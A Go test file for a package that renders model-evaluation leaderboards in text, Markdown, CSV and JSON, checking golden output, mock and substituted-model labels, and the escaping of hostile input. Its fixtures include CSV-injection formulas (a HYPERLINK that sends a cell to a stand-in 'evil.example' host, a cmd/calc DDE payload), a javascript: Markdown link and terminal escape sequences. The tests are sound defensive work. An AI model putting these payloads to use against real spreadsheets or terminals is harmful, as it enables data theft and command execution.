package reports

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func fixtureLeaderboard(t *testing.T) *Leaderboard {
	t.Helper()
	lb, err := Build(fixture(), fixedOptions())
	require.NoError(t, err)
	return lb
}

func TestRenderGolden(t *testing.T) {
	lb := fixtureLeaderboard(t)
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, Render(&buf, lb, format))
			path := filepath.Join("testdata", "leaderboard."+format+".golden")
			if *update {
				require.NoError(t, os.WriteFile(path, buf.Bytes(), 0o644))
			}
			want, err := os.ReadFile(path)
			require.NoError(t, err, "run go test ./reports -update to create the golden files")
			assert.Equal(t, string(want), buf.String())
		})
	}
}

func TestRenderUnknownFormat(t *testing.T) {
	err := Render(&bytes.Buffer{}, fixtureLeaderboard(t), "xlsx")
	require.Error(t, err)
	assert.Contains(t, err.Error(), `"xlsx"`)
	assert.Contains(t, err.Error(), "text, md, csv, json")
}

func TestRenderNilLeaderboard(t *testing.T) {
	require.Error(t, Render(&bytes.Buffer{}, nil, "text"))
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestRenderReportsWriteErrors(t *testing.T) {
	lb := fixtureLeaderboard(t)
	for _, format := range Formats {
		err := Render(failingWriter{}, lb, format)
		require.Error(t, err, format)
		assert.Contains(t, err.Error(), "disk full", format)
	}
}

func TestRenderMarksMockEverywhere(t *testing.T) {
	lb := fixtureLeaderboard(t)
	const note = "rows marked mock come from the built-in offline mock provider, not a real model"
	for _, format := range Formats {
		var buf bytes.Buffer
		require.NoError(t, Render(&buf, lb, format))
		out := buf.String()
		if format != "csv" { // the CSV is one table; its mock column carries the label
			assert.Contains(t, out, note, format)
		}
		switch format {
		case "text", "md":
			assert.Contains(t, out, "mock/mock-reasoner [mock]", format)
			assert.NotContains(t, out, "openai/o4-mini [mock]", format)
		}
	}
}

func TestRenderMarkdownEscapes(t *testing.T) {
	lb := fixtureLeaderboard(t)
	lb.Rows[0].Model = "a|b\nc"
	var buf bytes.Buffer
	require.NoError(t, Render(&buf, lb, "md"))
	out := buf.String()
	assert.NotContains(t, out, "<script")
	assert.Contains(t, out, `a\|b c`)

	lb.Rows[0].Model = "[click](javascript:alert(1)) ![x](http://tracker.example/p.png)"
	buf.Reset()
	require.NoError(t, Render(&buf, lb, "md"))
	assert.NotRegexp(t, `[^\\]\]\(`, buf.String(), "no link or image from a model's text")
	assert.Contains(t, buf.String(), `[click\](javascript:alert(1)) ![x\](http://tracker.example/p.png)`)
}

func TestRenderJSON(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, Render(&buf, fixtureLeaderboard(t), "json"))
	var got struct {
		GeneratedAt string `json:"generated_at"`
		Rows        []struct {
			Model    string             `json:"model"`
			Mock     bool               `json:"mock"`
			Accuracy *float64           `json:"accuracy"`
			MajAtK   *float64           `json:"maj_at_k"`
			Outcomes map[string]int     `json:"outcomes"`
			PassAtK  map[string]float64 `json:"pass_at_k"`
		} `json:"rows"`
		Groups []map[string]any `json:"groups"`
		Notes  []string         `json:"notes"`
	}
	require.NoError(t, json.Unmarshal(buf.Bytes(), &got))
	assert.Equal(t, "2025-06-01T12:00:00Z", got.GeneratedAt)
	require.Len(t, got.Rows, 5)
	mocks := 0
	for _, r := range got.Rows {
		if r.Mock {
			mocks++
			assert.Equal(t, "mock/mock-reasoner", r.Model, "the JSON model id stays clean; mock is its own field")
		}
		assert.Len(t, r.Outcomes, 6, "every outcome is present, zero or not")
		assert.NotNil(t, r.Accuracy)
	}
	assert.Equal(t, 1, mocks)
	aime := got.Rows[0]
	require.NotNil(t, aime.MajAtK)
	assert.InDelta(t, 1.0/3, *aime.MajAtK, 1e-12)
	assert.Len(t, aime.PassAtK, 4)
	assert.Nil(t, got.Rows[1].MajAtK, "K=1 has no majority vote: null, not NaN")
	assert.Len(t, got.Groups, 5)
	assert.Len(t, got.Notes, 8)
}

func TestRenderCSV(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, Render(&buf, fixtureLeaderboard(t), "csv"))
	assert.NotContains(t, buf.String(), "\n\n", "one table, no sections")

	runs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	require.NoError(t, err, "the run section is a strict CSV table")
	require.Len(t, runs, 6)
	assert.Equal(t, CSVHeader, runs[0])
	col := map[string]int{}
	for i, h := range runs[0] {
		col[h] = i
	}
	mock := runs[1+2] // aime24, cmmlu, then the mock row leads gsm8k
	assert.Equal(t, "mock/mock-reasoner", mock[col["model"]])
	assert.Equal(t, "true", mock[col["mock"]])
	ds := runs[5]
	assert.Equal(t, "1", ds[col["error"]])
	assert.Equal(t, "0.5", ds[col["accuracy"]])
	assert.Equal(t, "", ds[col["maj_at_k"]], "NaN is an empty cell")
}

func TestRenderTextColumnsAlign(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, Render(&buf, fixtureLeaderboard(t), "text"))
	lines := strings.Split(buf.String(), "\n")
	header := lines[2]
	col := strings.Index(header, "ACC %")
	require.Positive(t, col)
	for _, l := range lines[3:8] {
		assert.NotContains(t, l, "\t")
		assert.Greater(t, len(l), col, l)
	}
}

func TestLanguageColumnIsText(t *testing.T) {
	right := rightAligned(languageHeader)
	for i, h := range languageHeader {
		if h == "LANGUAGE" {
			assert.False(t, right[i], "language codes are text, aligned left like SUITE and MODEL")
		}
	}
}

// A spreadsheet runs a cell that starts with = + - @ tab or CR as a formula
// (OWASP "CSV Injection"); every text cell that comes from an endpoint,
// the catalog or the user must arrive as text.
func TestRenderCSVNeutralisesFormulas(t *testing.T) {
	lb := fixtureLeaderboard(t)
	r := &lb.Rows[0]
	r.ModelReported = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r.Model = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Provider = "+1+1"
	r.Thinking = "-2+3"
	r.Status = "\t=1"
	r.Subject = "\r=1"
	r.Currency = "＝1+1" // fullwidth equals sign: some spreadsheets read it as "="
	r.Scorers = []string{"=cmd"}
	r.CILow = 0 // numeric cells are data, never prefixed
	var buf bytes.Buffer
	require.NoError(t, Render(&buf, lb, "csv"))
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	require.NoError(t, err)
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	row := recs[1]
	for name, want := range map[string]string{
		"model_reported": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"model":          "'@SUM(1+1)*cmd|' /C calc'!A0",
		"provider":       "'+1+1",
		"thinking":       "'-2+3",
		"status":         "'\t=1",
		"subject":        "'\r=1",
		"currency":       "'＝1+1",
		"scorers":        "'=cmd",
		"ci_low":         "0",
	} {
		assert.Equal(t, want, row[col[name]], name)
	}
	for _, rec := range recs[2:] {
		for _, cell := range rec {
			assert.False(t, strings.HasPrefix(cell, "="), "untouched rows keep plain values: %q", cell)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"":            "",
		"gsm8k":       "gsm8k",
		"-0.5":        "'-0.5", // a text cell that looks like a number is still text
		"a=b":         "a=b",
		"=1":          "'=1",
		"@x":          "'@x",
		"＠x":          "'＠x",
		"'already":    "'already",
		"deepseek/r1": "deepseek/r1",
	} {
		assert.Equal(t, want, csvText(in), "%q", in)
	}
}

// TestRenderFlagsSubstitutedModel checks a row whose API reported another
// model than the one asked for says so in every format: the scores are the
// other model's.
func TestRenderFlagsSubstitutedModel(t *testing.T) {
	in := fixture()
	in[0].Run.Model.Name = "gemini-2.5-pro"
	in[0].Run.Model.ID = "gemini/gemini-2.5-pro"
	in[0].Run.ModelReported = "gemini-3.8-flash"
	in[1].Run.ModelReported = "o4-mini-2025-04-16" // a dated snapshot is the same model
	lb, err := Build(in, fixedOptions())
	require.NoError(t, err)
	for _, format := range Formats {
		var buf bytes.Buffer
		require.NoError(t, Render(&buf, lb, format))
		out := buf.String()
		switch format {
		case "text", "md":
			assert.Contains(t, out, "gemini/gemini-2.5-pro [answered by gemini-3.8-flash]", format)
			assert.NotContains(t, out, "o4-mini [answered by", format)
		case "json":
			assert.Regexp(t, `"substituted": ?true`, out, format)
		}
	}
}

// TestRenderTextDropsControlCharacters checks a reported model id, which
// the API chooses, cannot send escape sequences to the terminal a text or
// Markdown report is printed on.
func TestRenderTextDropsControlCharacters(t *testing.T) {
	in := fixture()
	in[0].Run.Model.Name = "gemini-2.5-pro"
	in[0].Run.ModelReported = "evil\x1b]0;title\x07\x1b[31mred\u202egnp.exe\u009b2J"
	lb, err := Build(in, fixedOptions())
	require.NoError(t, err)
	for _, format := range []string{"text", "md"} {
		var buf bytes.Buffer
		require.NoError(t, Render(&buf, lb, format))
		out := buf.String()
		assert.Contains(t, out, "[answered by evil]0;title[31mredgnp.exe2J]", format)
		assert.NotRegexp(t, "[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069]", out, format)
	}
}

func TestPrintable(t *testing.T) {
	assert.Equal(t, "a\n\tb[2Jc", Printable("a\n\tb\x1b[2J\rc\x00"))
	assert.Equal(t, "abc", Printable("a\u2066b\u202ec"), "bidirectional overrides reorder what a reader sees")
	assert.Equal(t, "中文 ok", Printable("中文 ok"))
	assert.Equal(t, "a b c", Flat("a\n\tb\r\n  c\x07"))
}

func TestRenderTextFitsATerminal(t *testing.T) {
	all := pattern(20, func(int) bool { return true })
	half := pattern(20, func(i int) bool { return i%2 == 0 })
	lb, err := Build([]Input{
		binaryRun(1, "cn/a", "CN", half), binaryRun(2, "cn/b", "CN", half),
		binaryRun(3, "west/best", "West", all), binaryRun(4, "west/other", "West", half),
	}, fixedOptions())
	require.NoError(t, err)
	require.Len(t, lb.Comparisons, 6)

	var compact, wide strings.Builder
	require.NoError(t, RenderText(&compact, lb, TextOptions{}))
	require.NoError(t, RenderText(&wide, lb, TextOptions{Wide: true, AllPairs: true}))
	c := compact.String()
	assert.Contains(t, c, "Same in every run: THINKING -, K 1, ITEMS 20")
	assert.Contains(t, c, "ERROR 0")
	assert.NotContains(t, c, "REASON TOK")
	header := strings.Split(c, "\n")[3]
	assert.True(t, strings.HasPrefix(header, "RUN  SUITE  RANK  MODEL"), header)
	assert.NotContains(t, header, "THINKING")
	// Only each CN run against the best West run: 2 of 6 pairs.
	pairs := c[strings.Index(c, "Paired comparisons"):]
	assert.Equal(t, 2, strings.Count(pairs, "west/best"))
	assert.NotContains(t, pairs, "west/other")
	assert.Contains(t, c, "4 other paired comparison(s) not shown: --all-pairs lists every pair")

	w := wide.String()
	assert.NotContains(t, w, "Same in every")
	assert.Contains(t, w, "REASON TOK")
	assert.Contains(t, w, "west/other  ")
	assert.NotContains(t, w, "not shown")
	var viaRender strings.Builder
	require.NoError(t, Render(&viaRender, lb, "text"))
	assert.Equal(t, c, viaRender.String(), "the text format is the compact report")
}
